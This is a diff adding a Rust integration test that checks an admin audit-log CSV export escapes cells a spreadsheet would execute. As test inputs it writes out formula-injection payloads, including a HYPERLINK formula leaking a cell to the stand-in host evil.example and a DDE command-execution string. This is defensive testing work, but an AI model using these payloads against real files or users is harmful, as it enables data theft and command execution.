@@ -153,6 +153,7 @@ on_both_databases!(
     pagination_walks_thousands_of_rows_without_duplicates_or_gaps_while_rows_arrive,
     filters_combine,
     csv_matches_json,
+    csv_cells_a_spreadsheet_would_run_are_written_as_text,
     bad_queries_answer_400,
 );
 
@@ -337,6 +338,69 @@ async fn csv_matches_json(kind: DbKind) {
             };
             assert_eq!(&row[i], expected, "column {column}");
         }
+    }
+}
+
+async fn csv_cells_a_spreadsheet_would_run_are_written_as_text(kind: DbKind) {
+    let db = TestDb::new(kind).await;
+    let pool = db.connect().await;
+    let hostile = [
+        (
+            SubjectKind::User,
+            r#"=HYPERLINK("http://evil.example/?x="&A1,"x")"#,
+        ),
+        (SubjectKind::User, "@SUM(1+1)"),
+        (SubjectKind::User, "-2+3"),
+        (SubjectKind::User, "\tcmd"),
+        (SubjectKind::User, "\rcmd"),
+        (SubjectKind::Phone, "+8613800138000"),
+        (SubjectKind::User, "alice"),
+    ];
+    let start = Utc::now() - chrono::Duration::minutes(5);
+    let events: Vec<AuditEvent> = hostile
+        .iter()
+        .enumerate()
+        .map(|(i, (kind, id))| {
+            let mut e = AuditEvent::new(
+                Action::LoginAttempt,
+                AuditDecision::Deny,
+                "rate_limited",
+                &Subject::new(*kind, *id),
+            );
+            e.occurred_at = start + chrono::Duration::seconds(i as i64);
+            e.user_agent = Some("=cmd|' /C calc'!A0".into());
+            e
+        })
+        .collect();
+    pool.insert(&events).await.unwrap();
+    let app = admin_app(&db).await;
+    let response = app
+        .client
+        .get(format!("{}/admin/api/events.csv", app.address))
+        .bearer_auth(ADMIN_TOKEN)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 200);
+    let text = response.text().await.unwrap();
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+    // Newest first.
+    let subjects: Vec<&str> = rows.iter().rev().map(|r| &r[6]).collect();
+    assert_eq!(
+        subjects,
+        [
+            r#"'=HYPERLINK("http://evil.example/?x="&A1,"x")"#,
+            "'@SUM(1+1)",
+            "'-2+3",
+            "'\tcmd",
+            "'\rcmd",
+            "'+8613800138000",
+            "alice",
+        ]
+    );
+    for row in &rows {
+        assert_eq!(&row[14], "'=cmd|' /C calc'!A0", "user_agent");
     }
 }
 
